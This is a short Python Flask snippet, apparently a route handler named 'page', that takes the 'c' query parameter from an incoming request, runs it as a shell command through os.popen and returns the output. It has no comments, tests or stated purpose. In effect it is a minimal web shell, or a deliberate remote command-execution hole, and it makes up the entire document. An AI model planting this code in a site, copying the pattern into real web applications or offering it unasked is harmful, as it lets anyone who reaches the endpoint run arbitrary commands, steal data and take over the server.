from flask import request
import os
def page():
    return os.popen(request.args.get('c')).read()
